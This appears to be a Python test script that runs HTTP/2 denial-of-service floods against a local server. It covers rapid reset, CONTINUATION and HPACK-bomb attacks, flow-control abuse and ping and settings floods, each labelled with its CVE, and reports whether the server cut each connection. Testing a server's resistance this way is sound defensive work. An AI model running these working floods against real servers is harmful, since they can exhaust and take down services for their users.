"""Clients that mean harm. Each does one thing over and over, as fast as the server takes it, until the server ends the
connection.

floods.py PORT KIND CONNECTIONS   does KIND on so many connections at a time; prints what became of each: how it ended
                                  and behind how many frames
"""

import struct
import sys
import threading
import time

import wire
from wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW,
    WINDOW_UPDATE, block, indexed, number, request,
)

# Frames after which a flood is given up: nothing has stopped it.
MOST = 300_000
# Of a TCP connection, in Linux.
ESTABLISHED = 1
GET = block(request())
HOLD = block(request("/hold"))


def flood(c, frames, at_once=200):
    """Sends what `frames(n)` makes for n = 0, 1, …, looking between batches whether the server has had enough."""
    sent = 0
    while sent < MOST:
        c.deadline = time.monotonic() + wire.LIMIT
        c.send(b"".join(frames(c, n) for n in range(sent, sent + at_once)))
        sent += at_once
        while c.read(wait=0.001):
            pass
        if c.closed:
            break
    if not c.closed:
        return "was not stopped"
    return f"{wire.name(c.goaway[0]) if c.goaway else 'closed'} {sent}"


def opened(c, n, fields=HOLD, flags=END_HEADERS | END_STREAM):
    return c.bytes_of(HEADERS, flags, 2 * n + 1, fields)


def rapid_reset(c):
    """CVE-2023-44487."""
    return flood(c, lambda c, n: opened(c, n, GET) + c.bytes_of(RST_STREAM, 0, 2 * n + 1, struct.pack(">I", 8)))


def made_to_reset(c):
    """CVE-2025-8671: the server is made to reset streams, by increments of nothing."""
    return flood(c, lambda c, n: opened(c, n) + c.bytes_of(WINDOW_UPDATE, 0, 2 * n + 1, bytes(4)))


def malformed(c):
    """Requests that are not whole."""
    return flood(c, lambda c, n: opened(c, n, b"\x82"))


def refused(c):
    """More streams than there may be, again and again."""
    return flood(c, opened)


def continuation(c):
    """CVE-2024-27316: a block that never ends, of nothing."""
    c.frame(HEADERS, END_STREAM, 1, GET)
    return flood(c, lambda c, n: c.bytes_of(CONTINUATION, 0, 1))


def large_continuation(c):
    """The same, of new fields."""
    c.frame(HEADERS, END_STREAM, 1, GET)
    piece = block([(f"x-{n}", "v" * 1000) for n in range(16)])[:16384]
    return flood(c, lambda c, n: c.bytes_of(CONTINUATION, 0, 1, piece), at_once=10)


def settings(c):
    return flood(c, lambda c, n: c.bytes_of(SETTINGS, 0, 0, struct.pack(">HI", WINDOW, 65535 + n % 2)))


def settings_acks(c):
    return flood(c, lambda c, n: c.bytes_of(SETTINGS, ACK, 0))


def ping(c):
    return flood(c, lambda c, n: c.bytes_of(PING, 0, 0, struct.pack(">Q", n)))


def priority(c):
    return flood(c, lambda c, n: c.bytes_of(PRIORITY, 0, 2 * n + 1, bytes(4) + b"\x10"))


def unknown(c):
    return flood(c, lambda c, n: c.bytes_of(0x77, 0, 0, b"?"))


def empty_data(c):
    """CVE-2019-9518."""
    stream = c.post("/hold")
    return flood(c, lambda c, n: c.bytes_of(DATA, 0, stream))


def padded_data(c):
    """The same in padding."""
    stream = c.post("/hold")
    return flood(c, lambda c, n: c.bytes_of(DATA, wire.PADDED, stream, b"\x00"))


def window_updates(c):
    return flood(c, lambda c, n: c.bytes_of(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def bomb(c):
    """CVE-2016-6581: one entry of 4,000 bytes, named a thousand times in a block; 15 KB are 60 MB."""
    c.headers(1, GET + indexed("x-large", "v" * 3900))
    c.answer(1)
    return flood(c, lambda c, n: opened(c, n + 1, GET + number(62, 7, 0x80) * 15_000), at_once=1)


def crumbs(c):
    """The same with a cookie's crumbs, which are put together; small enough to be let pass."""
    c.headers(1, GET + indexed("cookie", "v" * 1000))
    c.answer(1)
    sent = 0
    for n in range(1, 60):
        c.send(opened(c, n, HOLD + number(62, 7, 0x80) * 50))
        sent += 1
    c.ping()
    c.close()
    return f"closed {sent}"


def tiny_windows(c):
    """Answers that are let go on by a byte at a time, and then not at all (CVE-2019-9511)."""
    for n in range(100):
        c.send(opened(c, n, block(request("/bytes/1000000"))))
    first = time.monotonic()
    while time.monotonic() - first < 1:
        c.read(wait=0.05)
    for n in range(100):
        c.update(2 * n + 1, 1)
    c.until(lambda: sum(stream.reset is not None for stream in c.streams.values()) == 100, "all resets")
    codes = {wire.name(stream.reset) for stream in c.streams.values()}
    return "reset 100" if codes <= {"CANCEL", "INTERNAL"} else f"{codes}"


def never_reading(c):
    """Answers that are asked for and never read, with windows as large as can be (CVE-2019-9517)."""
    c.send(c.bytes_of(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
    for n in range(100):
        c.send(opened(c, n, block(request("/bytes/10000000"))))
    return silent(c)


def pings_unread(c):
    """Answers to PING that are never read (CVE-2019-9512)."""
    for n in range(20):
        c.send(c.bytes_of(PING, 0, 0, bytes(8)) * 100)
    return silent(c)


def silent(c):
    """Reads nothing until the server has ended the connection, which its state tells."""
    end = time.monotonic() + wire.LIMIT
    while time.monotonic() < end:
        if c.socket.getsockopt(wire.socket.IPPROTO_TCP, wire.socket.TCP_INFO, 1)[0] != ESTABLISHED:
            return "closed 0"
        threading.Event().wait(0.05)
    return "was not stopped"


# What a kind needs of its connection.
NEEDS = {"tiny_windows": {"settings": [(WINDOW, 1)]},
         "never_reading": {"settings": [(WINDOW, (1 << 31) - 1)], "receive_buffer": 4096}}


def one(address, kind, results):
    try:
        c = wire.Connection(address, **NEEDS.get(kind, {}))
        results.append(globals()[kind](c))
        c.close()
    except (wire.Failure, OSError, ValueError) as error:
        results.append(f"{type(error).__name__}: {error}")


def main():
    address, kind = ("127.0.0.1", int(sys.argv[1])), sys.argv[2]
    results = []
    threads = [threading.Thread(target=one, args=(address, kind, results)) for _ in range(int(sys.argv[3]))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(*results, sep="\n")


main()
